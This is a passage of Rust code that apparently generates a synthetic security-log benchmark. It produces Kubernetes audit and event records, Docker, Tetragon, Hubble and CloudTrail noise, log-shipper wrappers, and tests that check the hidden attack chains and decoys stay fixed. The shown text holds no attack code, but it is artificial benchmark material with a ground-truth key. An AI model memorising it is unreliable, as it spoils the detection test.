            r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"{id}","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/{ns}/pods/{pod}/status","verb":"patch","user":{{"username":"system:node:{host}","groups":["system:nodes","system:authenticated"]}},"sourceIPs":["10.0.3.17"],"userAgent":"kubelet/v1.31.2","objectRef":{{"resource":"pods","namespace":"{ns}","name":"{pod}","apiVersion":"v1","subresource":"status"}},"responseStatus":{{"metadata":{{}},"code":200}},"requestObject":{{"status":{{"podIP":"{ip}","podIPs":[{{"ip":"{ip}"}}]}}}},"requestReceivedTimestamp":"{ts}","stageTimestamp":"{ts}"}}"#,
            ns = c.ns,
            pod = c.pod,
            host = c.host,
            ip = c.ip,
        )
    }

    fn k8s_event(&mut self, t: i64, c: &Ctr, reason: &str, message: &str) -> String {
        let uid = self.uuid();
        let ts = rfc3339(t - t.rem_euclid(NS), 0);
        format!(
            r#"{{"kind":"Event","apiVersion":"v1","metadata":{{"name":"{pod}.{suffix}","namespace":"{ns}","uid":"{uid}","resourceVersion":"{rv}","creationTimestamp":"{ts}"}},"involvedObject":{{"kind":"Pod","namespace":"{ns}","name":"{pod}","apiVersion":"v1","fieldPath":"spec.containers{{{name}}}"}},"reason":"{reason}","message":"{message}","source":{{"component":"kubelet","host":"{host}"}},"firstTimestamp":"{ts}","lastTimestamp":"{ts}","count":1,"type":"Normal","eventTime":null,"reportingComponent":"kubelet","reportingInstance":"{host}"}}"#,
            pod = c.pod,
            suffix = self.rng.hex(16),
            ns = c.ns,
            rv = 80_000 + self.rng.below(900_000),
            name = c.name,
            host = c.host,
        )
    }

    fn k8s_event_noise(&mut self, t: i64, c: &Ctr) -> String {
        let (reason, msg) = *self.rng.pick(&[
            (
                "Unhealthy",
                "Readiness probe failed: HTTP probe failed with statuscode: 503",
            ),
            ("BackOff", "Back-off restarting failed container"),
            ("Scheduled", "Successfully assigned pod to node"),
            ("ProbeWarning", "Liveness probe warning: connection refused"),
        ]);
        self.k8s_event(t, c, reason, msg)
    }

    fn docker_noise(&mut self, t: i64) -> String {
        let d = self.docker[self.rng.below(self.docker.len() as u64) as usize].clone();
        let list = if d.kind.0 { TRUSTED } else { INTERNAL };
        let k = &list[d.kind.1 % list.len()];
        match self.rng.below(4) {
            0 => {
                let (bin, args) = *self.rng.pick(k.bins);
                docker_line(
                    t,
                    "container",
                    &format!("exec_start: {bin} {args}"),
                    &d.id,
                    &d.image,
                    Some(&d.name),
                    &d.image,
                )
            }
            1 => docker_line(
                t,
                "container",
                "exec_create: /app/healthcheck",
                &d.id,
                &d.image,
                Some(&d.name),
                &d.image,
            ),
            2 => docker_line(
                t,
                "container",
                "exec_die",
                &d.id,
                &d.image,
                Some(&d.name),
                &d.image,
            ),
            _ => docker_line(
                t,
                "network",
                "connect",
                &self.rng.hex(64),
                &d.image,
                Some("bridge"),
                &d.image,
            ),
        }
    }

    /// A pod's egress to a cluster service, as Hubble's exporter writes it: only from
    /// containers of allowlisted images, so the wide mix adds no alert and no decoy.
    fn hubble_flow(&mut self, t: i64, out: &mut String) {
        let slot = self.rng.below(self.pop.len() as u64) as usize;
        let Some(c) = self.pop.get(slot).filter(|c| c.kind.0).cloned() else {
            return self.cloudtrail(t, out);
        };
        let port = *self.rng.pick(c.kind().ports);
        let dst = format!("10.96.{}.{}", self.rng.below(256), 1 + self.rng.below(254));
        let sport = self.rng.range(32768, 60999);
        let uuid = self.uuid();
        let time = rfc3339(t, 9);
        let _ = write!(
            out,
            r#"{{"flow":{{"time":"{time}","uuid":"{uuid}","verdict":"FORWARDED","IP":{{"source":"{ip}","destination":"{dst}","ipVersion":"IPv4"}},"l4":{{"TCP":{{"source_port":{sport},"destination_port":{port},"flags":{{"SYN":true}}}}}},"source":{{"identity":{id},"namespace":"{ns}","labels":["k8s:app={name}"],"pod_name":"{pod}"}},"destination":{{"identity":2,"labels":["reserved:world"]}},"Type":"L3_L4","node_name":"{host}","event_type":{{"type":4,"sub_type":3}},"traffic_direction":"EGRESS","trace_observation_point":"TO_STACK","is_reply":false,"Summary":"TCP Flags: SYN"}},"node_name":"{host}","time":"{time}"}}"#,
            ip = c.ip,
            id = 1000 + slot,
            ns = c.ns,
            name = c.name,
            pod = c.pod,
            host = c.host,
        );
    }

    /// A read-only management event: the cloud control plane's chatter, of no interest.
    fn cloudtrail(&mut self, t: i64, out: &mut String) {
        let (source, name) = *self.rng.pick(&[
            ("ec2.amazonaws.com", "DescribeInstances"),
            ("sts.amazonaws.com", "GetCallerIdentity"),
            ("ecr.amazonaws.com", "GetAuthorizationToken"),
            ("s3.amazonaws.com", "ListBuckets"),
        ]);
        let id = self.uuid();
        let host = self.hosts[self.rng.below(self.hosts.len() as u64) as usize].clone();
        let _ = write!(
            out,
            r#"{{"eventVersion":"1.09","userIdentity":{{"type":"AssumedRole","principalId":"AROAEXAMPLENODE:{host}","arn":"arn:aws:sts::111122223333:assumed-role/eks-node-role/{host}","accountId":"111122223333"}},"eventTime":"{time}","eventSource":"{source}","eventName":"{name}","awsRegion":"eu-west-1","sourceIPAddress":"10.0.1.10","userAgent":"aws-sdk-go-v2/1.30.3","requestParameters":null,"responseElements":null,"requestID":"{id}","eventID":"{id}","readOnly":true,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"111122223333","eventCategory":"Management"}}"#,
            time = rfc3339(t - t.rem_euclid(NS), 0),
        );
    }

    fn uuid(&mut self) -> String {
        let h = self.rng.hex(32);
        format!(
            "{}-{}-4{}-8{}-{}",
            &h[..8],
            &h[8..12],
            &h[13..16],
            &h[17..20],
            &h[20..32]
        )
    }
}

fn tetragon_pod(c: &Ctr) -> String {
    let (repo, _) = c.image.rsplit_once(':').unwrap_or((&c.image, ""));
    let digest = fake_digest(&c.image);
    format!(
        r#"{{"namespace":"{ns}","name":"{pod}","container":{{"id":"containerd://{id}","name":"{name}","image":{{"id":"{repo}@sha256:{digest}","name":"{image}"}},"start_time":"{start}","pid":1}},"pod_labels":{{"app":"{name}"}},"workload":"{name}","workload_kind":"Deployment"}}"#,
        ns = c.ns,
        pod = c.pod,
        id = c.id,
        name = c.name,
        image = c.image,
        start = rfc3339(c.started, 0),
    )
}

fn tetragon_connect(
    t: i64,
    c: &Ctr,
    pid: u32,
    bin: &str,
    dst: &str,
    dport: u16,
    sport: i64,
) -> String {
    format!(
        r#"{{"process_kprobe":{{"process":{{"exec_id":"{eid}","pid":{pid},"uid":0,"cwd":"/","binary":"{bin}","flags":"execve","start_time":"{st}","pod":{pod},"docker":"{docker}"}},"parent":{{"pid":1}},"function_name":"tcp_connect","args":[{{"sock_arg":{{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":"{ip}","daddr":"{dst}","sport":{sport},"dport":{dport}}}}}],"action":"KPROBE_ACTION_POST","policy_name":"monitor-egress"}},"node_name":"{host}","time":"{time}"}}"#,
        eid = &c.id[..20],
        st = rfc3339(c.started, 9),
        pod = tetragon_pod(c),
        docker = &c.id[..31],
        ip = c.ip,
        host = c.host,
        time = rfc3339(t, 9),
    )
}

fn tetragon_exit(t: i64, c: &Ctr) -> String {
    let (bin, _) = c.kind().bins[0];
    format!(
        r#"{{"process_exit":{{"process":{{"exec_id":"{eid}","pid":{pid},"uid":0,"binary":"{bin}","flags":"execve clone","start_time":"{st}","docker":"{docker}"}},"parent":{{"pid":1}},"status":0,"time":"{time}"}},"node_name":"{host}","time":"{time}"}}"#,
        eid = &c.id[..20],
        pid = c.pid,
        st = rfc3339(c.started, 9),
        docker = &c.id[..31],
        host = c.host,
        time = rfc3339(t, 9),
    )
}

fn docker_line(
    t: i64,
    typ: &str,
    action: &str,
    id: &str,
    image: &str,
    name: Option<&str>,
    from: &str,
) -> String {
    let status = action.split(':').next().unwrap_or(action);
    let name = name.unwrap_or(image);
    let from = if typ == "image" { "" } else { from };
    format!(
        r#"{{"status":"{status}","id":"{id}","from":"{from}","Type":"{typ}","Action":"{action}","Actor":{{"ID":"{id}","Attributes":{{"image":"{image}","name":"{name}"}}}},"scope":"local","time":{secs},"timeNano":{t}}}"#,
        secs = t.div_euclid(NS),
    )
}

/// A record as a log shipper delivers it. The node and pod named in the envelope come
/// from the record's bytes, not the generator's random numbers, so wrapping leaves
/// every record (and the truth) as it is.
fn wrap_record(wrap: Wrap, record: &str, t: i64, hosts: &[String], out: &mut String) {
    let h = fnv(record.as_bytes());
    let host = &hosts[(h % hosts.len() as u64) as usize];
    match wrap {
        Wrap::None => out.push_str(record),
        Wrap::Vector => {
            out.push_str(record.strip_suffix('}').unwrap_or(record));
            let _ = write!(
                out,
                r#","source_type":"kubernetes_logs","host":"{host}","timestamp":"{}"}}"#,
                rfc3339(t, 9)
            );
        }
        Wrap::Filebeat => {
            let _ = write!(
                out,
                r#"{{"@timestamp":"{ts}","agent":{{"type":"filebeat","version":"8.15.0","name":"{host}"}},"ecs":{{"version":"8.0.0"}},"host":{{"name":"{host}"}},"input":{{"type":"filestream"}},"log":{{"file":{{"path":"/var/log/sensors/{host}.jsonl"}},"offset":{off}}},"event":{{"original":"#,
                ts = &rfc3339(t, 6)[..23],
                off = h % 1_000_000_000,
            );
            json_string(record, out);
            out.push_str("}}");
        }
        Wrap::FluentBit => {
            let _ = write!(out, r#"{{"@timestamp":"{}","log":"#, rfc3339(t, 6));
            json_string(record, out);
            let _ = write!(
                out,
                r#","stream":"stdout","kubernetes":{{"pod_name":"sensor-{pod:05x}","namespace_name":"kube-system","host":"{host}","container_name":"export","labels":{{"app":"sensor"}}}}}}"#,
                pod = h % 0x10_0000,
            );
        }
    }
}

/// `s` as a JSON string, quotes included.
fn json_string(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

fn fnv(b: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &x in b {
        h = (h ^ u64::from(x)).wrapping_mul(0x0100_0000_01b3);
    }
    h
}

/// A stable digest per image name, so every record of one image agrees.
fn fake_digest(image: &str) -> String {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in image.bytes() {
        h = (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3);
    }
    let mut r = Rng(h);
    r.hex(64)
}

/// RFC 3339 in UTC with `digits` fractional digits (0, 6 or 9).
pub fn rfc3339(ns: i64, digits: u32) -> String {
    let secs = ns.div_euclid(NS);
    let frac = ns.rem_euclid(NS);
    let days = secs.div_euclid(86_400);
    let rem = secs.rem_euclid(86_400);
    let (y, m, d) = civil_from_days(days);
    let mut s = format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}",
        rem / 3600,
        rem % 3600 / 60,
        rem % 60
    );
    match digits {
        0 => {}
        6 => {
            let _ = write!(s, ".{:06}", frac / 1000);
        }
        _ => {
            let _ = write!(s, ".{frac:09}");
        }
    }
    s.push('Z');
    s
}

/// Days since 1970-01-01 to a proleptic Gregorian date (Howard Hinnant's algorithm).
fn civil_from_days(z: i64) -> (i64, u32, u32) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    let y = yoe + era * 400 + i64::from(m <= 2);
    (y, m, d)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn corpus(seed: u64, records: u64, chains: u64) -> (Vec<u8>, Truth) {
        let mut out = Vec::new();
        let truth = generate(
            &GenSpec {
                seed,
                records,
                chains,
                rate: 250,
            },
            &mut out,
        )
        .unwrap();
        (out, truth)
    }

    #[test]
    fn same_seed_same_bytes_other_seed_other_bytes() {
        let (a, ta) = corpus(7, 3000, 4);
        let (b, _) = corpus(7, 3000, 4);
        let (c, _) = corpus(8, 3000, 4);
        assert_eq!(a, b);
        assert_ne!(a, c);
        assert_eq!(ta.records, 3000);
        assert_eq!(a.iter().filter(|&&b| b == b'\n').count(), 3000);
        assert_eq!(ta.chain_images.len(), 4);
        assert_eq!(ta.bytes, a.len() as u64);
    }

    #[test]
    fn records_are_json_of_several_hundred_bytes_in_time_order() {
        let (a, t) = corpus(1, 5000, 3);
        let text = String::from_utf8(a).unwrap();
        let avg = t.bytes / t.records;
        assert!((400..=1200).contains(&avg), "average record {avg} bytes");
        let mut kinds = std::collections::BTreeMap::new();
        for l in text.lines() {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            let k = if v.get("process_exec").is_some() {
                "tetragon-exec"
            } else if v.get("process_kprobe").is_some() {
                "tetragon-connect"
            } else if v.get("output_fields").is_some() {
                "falco"
            } else if v.get("auditID").is_some() {
                "k8s-audit"
            } else if v.get("involvedObject").is_some() {
                "k8s-events"
            } else if v.get("Actor").is_some() {
                "docker"
            } else {
                "other"
            };
            *kinds.entry(k).or_insert(0u32) += 1;
        }
        for k in [
            "tetragon-exec",
            "tetragon-connect",
            "falco",
            "k8s-audit",
            "k8s-events",
            "docker",
        ] {
            assert!(kinds.get(k).copied().unwrap_or(0) > 50, "{k}: {kinds:?}");
        }
        // Noise dominates: ordinary processes and connections are the bulk.
        let activity = kinds["tetragon-exec"] + kinds["tetragon-connect"];
        assert!(activity * 2 > 5000, "{kinds:?}");
    }

    fn shaped(seed: u64, records: u64, chains: u64, shape: Shape) -> (String, Truth) {
        let mut out = Vec::new();
        let spec = GenSpec {
            seed,
            records,
            chains,
            rate: 250,
        };
        let truth = generate_shaped(&spec, shape, &mut out).unwrap();
        (String::from_utf8(out).unwrap(), truth)
    }

    #[test]
    fn wrapping_changes_the_delivery_not_the_records_or_the_truth() {
        let (bare, bare_truth) = shaped(3, 3000, 3, Shape::default());
        let (plain, _) = corpus(3, 3000, 3);
        assert_eq!(
            bare.as_bytes(),
            plain,
            "the default shape is the benchmark's corpus"
        );
        for wrap in [Wrap::Vector, Wrap::Filebeat, Wrap::FluentBit] {
            let (text, truth) = shaped(
                3,
                3000,
                3,
                Shape {
                    wrap,
                    mix: Mix::Container,
                },
            );
            assert_eq!(truth.chain_images, bare_truth.chain_images);
            assert_eq!(
                (truth.decoys, truth.records),
                (bare_truth.decoys, bare_truth.records)
            );
            assert_eq!(truth.bytes, text.len() as u64);
            assert!(truth.bytes > bare_truth.bytes);
            for (w, b) in text.lines().zip(bare.lines()) {
                let v: serde_json::Value = serde_json::from_str(w).unwrap();
                let inner = match wrap {
                    Wrap::Vector => {
                        let mut m = v.as_object().unwrap().clone();
                        assert_eq!(m.remove("source_type").unwrap(), "kubernetes_logs");
                        assert!(m
                            .remove("host")
                            .unwrap()
                            .as_str()
                            .unwrap()
                            .starts_with("ip-"));
                        assert!(m.remove("timestamp").is_some());
                        assert_eq!(
                            serde_json::Value::Object(m),
                            serde_json::from_str::<serde_json::Value>(b).unwrap()
                        );
                        continue;
                    }
                    Wrap::Filebeat => {
                        assert!(v["host"]["name"].is_string() && v["agent"].is_object());
                        v["event"]["original"].as_str().unwrap().to_string()
                    }
                    _ => {
                        assert!(v["kubernetes"]["pod_name"].is_string());
                        v["log"].as_str().unwrap().to_string()
                    }
                };
                assert_eq!(inner, b);
            }
            assert_eq!(text.lines().count(), 3000);
        }
    }

    #[test]
    fn the_wide_mix_adds_hubble_flows_and_cloudtrail_and_keeps_the_truth() {
        let (_, bare_truth) = shaped(4, 4000, 3, Shape::default());
        let (text, truth) = shaped(
            4,
            4000,
            3,
            Shape {
                wrap: Wrap::None,
                mix: Mix::Wide,
            },
        );
        assert_eq!(truth.chain_images, bare_truth.chain_images);
        assert_eq!(truth.decoys, bare_truth.decoys);
        let (mut flows, mut trail) = (0, 0);
        for l in text.lines() {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            if v["flow"]["traffic_direction"] == "EGRESS" {
                flows += 1;
            }
            if v["eventSource"].is_string() {
                trail += 1;
            }
        }
        assert!(
            flows > 200 && trail > 300,
            "{flows} flows, {trail} CloudTrail"
        );
    }

    #[test]
    fn timestamps_are_rfc3339() {
        assert_eq!(rfc3339(EPOCH_SECS * NS, 0), "2026-11-20T00:00:00Z");
        assert_eq!(
            rfc3339(EPOCH_SECS * NS + 1_500_000_123, 9),
            "2026-11-20T00:00:01.500000123Z"
        );
        assert_eq!(rfc3339(951_782_400 * NS, 6), "2000-02-29T00:00:00.000000Z");
    }
}
